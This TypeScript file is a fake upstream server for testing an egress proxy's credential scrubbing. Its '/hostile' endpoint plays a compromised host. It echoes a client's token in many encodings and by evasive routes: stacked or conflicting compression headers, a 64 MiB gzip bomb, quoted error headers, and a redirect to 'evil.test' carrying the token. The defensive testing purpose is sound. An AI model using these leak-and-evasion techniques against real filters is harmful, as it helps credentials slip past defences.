/**
 * A local upstream for egress proxy tests: one HTTPS port serving several host names by
 * SNI (each with a leaf from the fake's own ECDSA P-256 CA, made with @peculiar/x509),
 * and one plain HTTP port. It records every byte it receives, per connection, and every
 * parsed request, so a test can prove what did NOT reach a host.
 *
 * Endpoints (any host):
 *   /echo            JSON of what arrived: method, url, sni, rawHeaders, body (utf8)
 *   /redirect?to=URL 302 with Location: URL (a proxy must pass it on, not follow it)
 *   /reflect-auth    the Authorization and X-Api-Key it got, in response headers and in a
 *                    chunked body (raw, base64, and split across writes): scrubbing bait
 *   /gzip            a gzip-encoded body whatever Accept-Encoding said
 *   /big?n=BYTES     n bytes of filler (benchmarks)
 *   /sse             three server-sent events 150 ms apart
 *   /ws              WebSocket upgrade (RFC 6455 handshake), then echoes raw bytes
 *   /hostile?form=F&via=V  a compromised credential host: the token it was sent (Bearer or
 *                    `token` credentials, Basic's password, or X-Api-Key) reflected in
 *                    form F (see {@link hostileEncode}) and delivered the way V says
 *                    (see {@link hostileAnswer}): in the body, a header, a redirect's
 *                    Location, compressed under any field or none, in a header a proxy
 *                    would quote in its 502
 *
 * Names in `wrongCert` are served a certificate for `impostor.invalid`, so a client that
 * checks the server's identity must refuse them.
 */
import { createHash } from 'node:crypto';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import tls from 'node:tls';
import zlib, { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { writeFiller } from './filler.ts';
import { makeTestCa, type TestCa } from '../../scripts/lib/fakes/test-ca.ts';


export interface RecordedRequest {
  /** `https` or `http`. */
  scheme: string;
  /** SNI of the TLS connection (https), undefined for plain HTTP. */
  sni: string | undefined;
  method: string;
  url: string;
  rawHeaders: string[];
  body: string;
}

export interface HttpsUpstream {
  httpsPort: number;
  httpPort: number;
  /** PEM of the fake's CA (what the proxy must trust upstream). */
  caPem: string;
  /** Parsed requests, in arrival order. */
  requests: RecordedRequest[];
  /** Every byte received on every connection (decrypted for TLS), with the SNI it came in under. */
  received: Array<{ sni: string | undefined; bytes: Buffer[] }>;
  /** All bytes received for `sni` (undefined: plain HTTP), as latin1 text. */
  receivedFor(sni: string | undefined): string;
  /** Every byte received from anyone, as latin1 text. */
  allReceived(): string;
  clear(): void;
  close(): Promise<void>;
}

/** A TLS context for `name`, issued by the fake's CA. */
async function leaf(ca: TestCa, name: string): Promise<tls.SecureContext> {
  const { certPem, keyPem } = await ca.issue([{ type: 'dns', value: name }]);
  return tls.createSecureContext({ cert: certPem, key: keyPem });
}

/** The token a request carried: Bearer / `token` credentials, Basic's password, or X-Api-Key. */
function tokenOf(req: http.IncomingMessage): string {
  const auth = req.headers.authorization ?? '';
  const bearer = /^(?:bearer|token)\s+(\S+)/i.exec(auth);
  if (bearer?.[1]) return bearer[1];
  const basic = /^basic\s+(\S+)/i.exec(auth);
  if (basic?.[1]) return Buffer.from(basic[1], 'base64').toString('utf8').split(':').slice(1).join(':');
  return String(req.headers['x-api-key'] ?? '');
}

/**
 * `value` in one of the forms a hostile upstream was seen to use. Wrapped forms embed a
 * prefix of `pad` bytes so the line break falls at a different place in the value.
 */
export function hostileEncode(value: string, form: string, pad = 7): string {
  const bytes = Buffer.from(value);
  const hex = bytes.toString('hex');
  const wrap = (s: string, width: number, eol: string) => s.replace(new RegExp(`(.{${width}})(?=.)`, 'g'), `$1${eol}`);
  let flip = 0;
  const mixed = (s: string) => s.replace(/[a-f]/g, (c) => (flip++ % 2 ? c.toUpperCase() : c));
  const pct = [...bytes].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
  const u = [...value].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  const forms: Record<string, () => string> = {
    raw: () => value,
    hex: () => hex,
    HEX: () => hex.toUpperCase(),
    hexMixed: () => mixed(hex),
    pct: () => pct,
    PCT: () => pct.toUpperCase(),
    pctMixed: () => mixed(pct),
    json: () => u,
    JSON: () => u.replace(/[0-9a-f]{4}/g, (h) => h.toUpperCase()),
    entDec: () => [...value].map((c) => `&#${c.charCodeAt(0)};`).join(''),
    entHex: () => [...value].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(''),
    ENTHEX: () => [...value].map((c) => `&#X${c.charCodeAt(0).toString(16).toUpperCase()};`).join(''),
    b64: () => bytes.toString('base64'),
    b64url: () => bytes.toString('base64url'),
    mime: () => wrap(Buffer.concat([Buffer.alloc(pad, 'm'), bytes]).toString('base64'), 76, '\r\n'),
    pem: () => wrap(Buffer.concat([Buffer.alloc(pad, 'p'), bytes]).toString('base64'), 64, '\n'),
    b64pct: () => encodeURIComponent(Buffer.concat([Buffer.alloc(pad, '~'), bytes]).toString('base64')),
    b64php: () => Buffer.concat([Buffer.alloc(pad, '~'), bytes]).toString('base64').replace(/\//g, '\\/'),
    utf16le: () => Buffer.from(value, 'utf16le').toString('base64'),
    utf16be: () => Buffer.from(value, 'utf16le').swap16().toString('base64'),
  };
  const f = forms[form];
  if (!f) throw new Error(`unknown form ${form}`);
  return f();
}

/** Writes a complete HTTP/1.1 response on the request's socket as raw bytes (head fields as given), then closes it. */
function rawAnswer(req: http.IncomingMessage, status: string, fields: string[], body: Buffer): void {
  req.socket.end(Buffer.concat([Buffer.from(`HTTP/1.1 ${status}\r\n${[...fields, 'Connection: close'].map((f) => `${f}\r\n`).join('')}\r\n`, 'latin1'), body]));
}

/** Chunked framing of `body` in one chunk (RFC 9112 section 7.1). */
const chunked = (body: Buffer) => Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n')]);

/**
 * Delivers `text` the way `via` says, as a compromised upstream would:
 * body | header (X-Reflect) | location (302) | ce-gzip | ce-identity-then-gzip (two
 * Content-Encoding fields) | ce-list (`identity, gzip`) | ce-stacked (`deflate, br`) |
 * ce-deflate | ce-br | ce-zstd | te-gzip (`Transfer-Encoding: gzip, chunked`) |
 * sniff-gzip / sniff-zstd / sniff-zlib (compressed, no header) | bomb (gzip of 64 MiB
 * of zeros with `text` at the end) | ce-quoted (an unknown coding whose name carries the
 * text, which a proxy quotes in its 502) | chunked (split across chunks 20 ms apart).
 */
function hostileAnswer(req: http.IncomingMessage, res: http.ServerResponse, via: string, text: string): void {
  const body = Buffer.from(`{"leak":"${text}"}\n`);
  const type = 'Content-Type: application/json';
  const z = zlib as unknown as Record<string, ((b: Buffer) => Buffer) | undefined>;
  switch (via) {
    case 'body':
      res.writeHead(200, { 'Content-Type': 'application/json' }).end(body);
      return;
    case 'chunked': {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      const mid = Math.floor(body.length / 2);
      res.write(body.subarray(0, mid));
      setTimeout(() => res.end(body.subarray(mid)), 20);
      return;
    }
    case 'header':
      res.writeHead(200, { 'X-Reflect': text.replace(/\r?\n/g, ''), 'Content-Length': '0' }).end();
      return;
    case 'location':
      res.writeHead(302, { Location: `https://evil.test/callback?t=${text.replace(/\r?\n/g, '')}`, 'Content-Length': '0' }).end();
      return;
    case 'ce-gzip':
      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: gzip', `Content-Length: ${gzipSync(body).length}`], gzipSync(body));
    case 'ce-identity-then-gzip':
      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: identity', 'Content-Encoding: gzip', `Content-Length: ${gzipSync(body).length}`], gzipSync(body));
    case 'ce-list':
      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: identity, gzip', `Content-Length: ${gzipSync(body).length}`], gzipSync(body));
    case 'ce-stacked': {
      const enc = brotliCompressSync(deflateSync(body));
      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: deflate, br', `Content-Length: ${enc.length}`], enc);
    }
    case 'ce-deflate':
      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: deflate', `Content-Length: ${deflateSync(body).length}`], deflateSync(body));
    case 'ce-br':
      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: br', `Content-Length: ${brotliCompressSync(body).length}`], brotliCompressSync(body));
    case 'ce-zstd':
    case 'sniff-zstd': {
      const compress = z.zstdCompressSync;
      if (!compress) throw new Error('this Node has no zstd');
      const enc = compress(body);
      return rawAnswer(req, '200 OK', [type, ...(via === 'ce-zstd' ? ['Content-Encoding: zstd'] : []), `Content-Length: ${enc.length}`], enc);
    }
    case 'te-gzip':
      return rawAnswer(req, '200 OK', [type, 'Transfer-Encoding: gzip, chunked'], chunked(gzipSync(body)));
    case 'sniff-gzip':
      // Large enough to be streamed by a proxy (no Content-Length, chunked).
      return rawAnswer(req, '200 OK', ['Content-Type: application/octet-stream', 'Transfer-Encoding: chunked'], chunked(gzipSync(Buffer.concat([body, Buffer.alloc(200_000, 'x')]))));
    case 'sniff-zlib':
      return rawAnswer(req, '200 OK', ['Content-Type: application/octet-stream', `Content-Length: ${deflateSync(body).length}`], deflateSync(body));
    case 'bomb': {
      const enc = gzipSync(Buffer.concat([Buffer.alloc(64 * 1024 * 1024), body]));
      return rawAnswer(req, '200 OK', [type, 'Content-Encoding: gzip', `Content-Length: ${enc.length}`], enc);
    }
    case 'ce-quoted':
      return rawAnswer(req, '200 OK', [type, `Content-Encoding: x-${'a'.repeat(30)}${text.replace(/\r?\n/g, '')}`, `Content-Length: ${body.length}`], body);
    default:
      res.writeHead(400).end(`unknown via ${via}`);
  }
}

function handler(scheme: string, requests: RecordedRequest[]) {
  return (req: http.IncomingMessage, res: http.ServerResponse) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const sni = scheme === 'https' ? ((req.socket as tls.TLSSocket).servername || undefined) : undefined;
      const rec: RecordedRequest = { scheme, sni, method: req.method ?? '', url: req.url ?? '', rawHeaders: req.rawHeaders, body: Buffer.concat(chunks).toString('utf8') };
      requests.push(rec);
      const url = new URL(req.url ?? '/', 'http://upstream.invalid');
      switch (url.pathname) {
        case '/redirect':
          res.writeHead(302, { Location: url.searchParams.get('to') ?? '/' }).end();
          return;
        case '/reflect-auth': {
          const auth = req.headers.authorization ?? '';
          const key = String(req.headers['x-api-key'] ?? '');
          res.writeHead(200, { 'Content-Type': 'text/plain', 'X-Seen-Authorization': auth, 'X-Seen-Api-Key': key });
          const text = `auth=${auth}\nkey=${key}\nb64=${Buffer.from(auth + key).toString('base64')}\n`;
          // Split the value across writes (and so across chunks).
          const mid = Math.floor(text.length / 2);
          res.write(text.slice(0, mid));
          setTimeout(() => res.end(text.slice(mid)), 20);
          return;
        }
        case '/big': {
          // n bytes of filler in 64 KiB writes (benchmarks).
          writeFiller(res, Number(url.searchParams.get('n') ?? '0'));
          return;
        }
        case '/hostile':
          hostileAnswer(req, res, url.searchParams.get('via') ?? 'body', hostileEncode(tokenOf(req), url.searchParams.get('form') ?? 'raw', Number(url.searchParams.get('pad') ?? '7')));
          return;
        case '/gzip':
          res.writeHead(200, { 'Content-Type': 'text/plain', 'Content-Encoding': 'gzip' }).end(gzipSync(`gzipped for ${req.headers.authorization ?? 'nobody'}\n`));
          return;
        case '/sse': {
          res.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-cache' });
          let n = 0;
          const tick = () => {
            res.write(`event: tick\ndata: {"n":${n}}\n\n`);
            if (++n < 3) setTimeout(tick, 150);
            else res.end();
          };
          tick();
          return;
        }
        default:
          res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify(rec));
      }
    });
  };
}

/** RFC 6455 section 4.2.2: Sec-WebSocket-Accept. */
function wsAccept(key: string): string {
  return createHash('sha1').update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
}

function onUpgrade(scheme: string, requests: RecordedRequest[]) {
  return (req: http.IncomingMessage, socket: Socket, head: Buffer) => {
    const sni = scheme === 'https' ? ((socket as unknown as tls.TLSSocket).servername || undefined) : undefined;
    requests.push({ scheme, sni, method: req.method ?? '', url: req.url ?? '', rawHeaders: req.rawHeaders, body: '' });
    const key = req.headers['sec-websocket-key'];
    if (typeof key !== 'string' || !(req.url ?? '').startsWith('/ws')) {
      socket.end('HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
      return;
    }
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${wsAccept(key)}\r\n` +
        `X-Seen-Authorization: ${req.headers.authorization ?? ''}\r\n\r\n`,
    );
    if (head.length) socket.write(head);
    socket.on('data', (d: Buffer) => socket.write(d));
    socket.on('error', () => socket.destroy());
  };
}

/** Starts the fake on 127.0.0.1 (two free ports) serving `names`. */
export async function startHttpsUpstream(opts: { names: string[]; wrongCert?: string[] }): Promise<HttpsUpstream> {
  const issued = await makeTestCa('agent-smith test upstream CA');
  const contexts = new Map<string, tls.SecureContext>();
  for (const name of opts.names) contexts.set(name, await leaf(issued, name));
  const impostor = await leaf(issued, 'impostor.invalid');
  for (const name of opts.wrongCert ?? []) contexts.set(name, impostor);

  const requests: RecordedRequest[] = [];
  const received: HttpsUpstream['received'] = [];
  const sockets = new Set<Socket>();
  const track = (s: Socket) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  };

  const secure = https.createServer({
    SNICallback: (name, cb) => {
      const ctx = contexts.get(name);
      if (ctx) cb(null, ctx);
      else cb(new Error(`upstream fake does not serve ${name}`));
    },
  });
  secure.on('connection', track);
  secure.on('secureConnection', (s: tls.TLSSocket) => {
    const entry = { sni: s.servername || undefined, bytes: [] as Buffer[] };
    received.push(entry);
    s.on('data', (d: Buffer) => entry.bytes.push(Buffer.from(d)));
  });
  secure.on('request', handler('https', requests));
  secure.on('upgrade', onUpgrade('https', requests));
  secure.on('tlsClientError', () => undefined);

  const plain = http.createServer();
  plain.on('connection', (s: Socket) => {
    track(s);
    const entry = { sni: undefined, bytes: [] as Buffer[] };
    received.push(entry);
    s.on('data', (d: Buffer) => entry.bytes.push(Buffer.from(d)));
  });
  plain.on('request', handler('http', requests));
  plain.on('upgrade', onUpgrade('http', requests));

  const listen = (server: http.Server) =>
    new Promise<number>((resolve, reject) => {
      server.once('error', reject);
      server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port));
    });
  const httpsPort = await listen(secure);
  const httpPort = await listen(plain);

  const text = (entries: HttpsUpstream['received']) => entries.map((e) => Buffer.concat(e.bytes).toString('latin1')).join('\n');
  return {
    httpsPort,
    httpPort,
    caPem: issued.caPem,
    requests,
    received,
    receivedFor: (sni) => text(received.filter((e) => e.sni === sni)),
    allReceived: () => text(received),
    clear: () => {
      requests.length = 0;
      received.length = 0;
    },
    close: async () => {
      for (const s of sockets) s.destroy();
      await Promise.all([secure, plain].map((s) => new Promise<void>((r) => s.close(() => r()))));
    },
  };
}
